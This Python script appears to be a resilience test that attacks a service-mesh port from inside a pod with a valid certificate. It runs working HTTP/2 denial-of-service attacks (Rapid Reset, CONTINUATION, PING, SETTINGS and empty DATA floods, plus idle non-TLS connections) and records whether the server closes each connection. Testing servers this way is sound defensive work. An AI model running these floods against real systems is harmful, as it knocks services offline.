"""Run inside a pod: attack HOST:15008 as a peer holding a valid mesh certificate would (a
compromised node), and print one JSON line per attack:
{"name", "outcome": "closed" | "open", "sent": bytes or frames sent, "seconds"}.

``outcome`` "closed" means the server cut the connection (reset, EOF, or a failing write) before
the attack ended; "open" means it was still taking the attack when the tool gave up.

Attacks: the HTTP/2 "Rapid Reset" (HEADERS then RST_STREAM, again and again), a CONTINUATION
flood (one header block that never ends), a PING flood and a SETTINGS flood from a peer that never
reads the answers, a flood of empty DATA frames, and TCP connections that never start TLS.
"""

from __future__ import annotations

import argparse
import json
import socket
import ssl
import time

import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, SETTINGS, PING, RST_STREAM, CONTINUATION = 0x0, 0x1, 0x4, 0x6, 0x3, 0x9
END_STREAM, END_HEADERS = 0x1, 0x4


def frame(ftype: int, flags: int, sid: int, payload: bytes = b"") -> bytes:
    return len(payload).to_bytes(3, "big") + bytes((ftype, flags)) + sid.to_bytes(4, "big") \
        + payload


def connect(host: str, args: argparse.Namespace) -> ssl.SSLSocket:
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.load_verify_locations(args.ca)
    ctx.load_cert_chain(args.cert, args.key)
    ctx.set_alpn_protocols(["h2"])
    raw = socket.create_connection((host, 15008), timeout=10)
    # a peer that never reads: keep our receive buffer small so the server's answers back up
    raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    tls = ctx.wrap_socket(raw)
    tls.sendall(PREFACE + frame(SETTINGS, 0, 0))
    return tls


def flood(tls: ssl.SSLSocket, unit: bytes, limit_bytes: int, seconds: float) -> tuple[str, int]:
    """Send ``unit`` repeatedly without reading; 'closed' when the server cut us off."""
    sent = 0
    batch = unit * max(1, 16384 // len(unit))
    deadline = time.monotonic() + seconds
    tls.settimeout(2.0)
    try:
        while sent < limit_bytes and time.monotonic() < deadline:
            tls.sendall(batch)
            sent += len(batch)
    except TimeoutError:
        return "open", sent  # the server stopped reading us (backpressure), still open
    except (OSError, ssl.SSLError):
        return "closed", sent
    return ("closed" if peer_closed(tls) else "open"), sent


def peer_closed(tls: ssl.SSLSocket, wait: float = 3.0) -> bool:
    """Read (draining what the server queued) until EOF/reset or ``wait`` passes."""
    tls.settimeout(0.5)
    deadline = time.monotonic() + wait
    try:
        while time.monotonic() < deadline:
            try:
                if not tls.recv(65536):
                    return True
            except TimeoutError:
                continue
    except (OSError, ssl.SSLError):
        return True
    return False


def rapid_reset(tls: ssl.SSLSocket, target: str, streams: int) -> tuple[str, int]:
    block = hpack.Encoder().encode([(":method", "CONNECT"), (":authority", target)])
    sent = 0
    tls.settimeout(2.0)
    try:
        for i in range(streams):
            sid = 1 + 2 * i
            tls.sendall(frame(HEADERS, END_HEADERS, sid, block)
                        + frame(RST_STREAM, 0, sid, (8).to_bytes(4, "big")))  # CANCEL
            sent += 1
    except (OSError, ssl.SSLError):
        return "closed", sent
    return ("closed" if peer_closed(tls) else "open"), sent


def continuation_flood(tls: ssl.SSLSocket, target: str, limit_bytes: int) -> tuple[str, int]:
    block = hpack.Encoder().encode([(":method", "CONNECT"), (":authority", target)])
    tls.sendall(frame(HEADERS, 0, 1, block))
    # literal header fields without indexing, never ending the block
    junk = hpack.Encoder().encode([("x-flood", "a" * 8000)])
    return flood(tls, frame(CONTINUATION, 0, 1, junk), limit_bytes, 20.0)


def no_tls(host: str, conns: int, hold: float) -> tuple[str, int]:
    socks = [socket.create_connection((host, 15008), timeout=5) for _ in range(conns)]
    closed: set[int] = set()
    deadline = time.monotonic() + hold
    for s in socks:
        s.setblocking(False)
    while time.monotonic() < deadline and len(closed) < conns:
        for i, s in enumerate(socks):
            if i in closed:
                continue
            try:
                if s.recv(1) == b"":
                    closed.add(i)
            except BlockingIOError:
                pass
            except OSError:
                closed.add(i)
        time.sleep(0.2)
    for s in socks:
        s.close()
    return f"{len(closed)} of {conns} closed", conns


def main() -> None:
    p = argparse.ArgumentParser()
    p.add_argument("host")
    p.add_argument("--target", required=True, help="ip:port for the CONNECTs")
    p.add_argument("--cert", required=True)
    p.add_argument("--key", required=True)
    p.add_argument("--ca", required=True)
    p.add_argument("--no-tls-conns", type=int, default=50)
    p.add_argument("--no-tls-hold", type=float, default=15.0)
    args = p.parse_args()
    mb = 1024 * 1024
    attacks = {
        "rapid_reset": lambda: rapid_reset(connect(args.host, args), args.target, 20_000),
        "continuation_flood": lambda: continuation_flood(connect(args.host, args), args.target,
                                                         64 * mb),
        "ping_flood_no_read": lambda: flood(connect(args.host, args),
                                            frame(PING, 0, 0, b"12345678"), 64 * mb, 20.0),
        "settings_flood_no_read": lambda: flood(connect(args.host, args),
                                                frame(SETTINGS, 0, 0), 64 * mb, 20.0),
        "empty_data_flood": lambda: flood(connect(args.host, args), frame(DATA, 0, 1),
                                          64 * mb, 20.0),
        "no_tls": lambda: no_tls(args.host, args.no_tls_conns, args.no_tls_hold),
    }
    for name, attack in attacks.items():
        started = time.monotonic()
        try:
            outcome, sent = attack()
        except (OSError, ssl.SSLError) as exc:
            outcome, sent = f"error: {type(exc).__name__}: {exc}", 0
        print(json.dumps({"name": name, "outcome": outcome, "sent": sent,
                          "seconds": round(time.monotonic() - started, 2)}), flush=True)


if __name__ == "__main__":
    main()
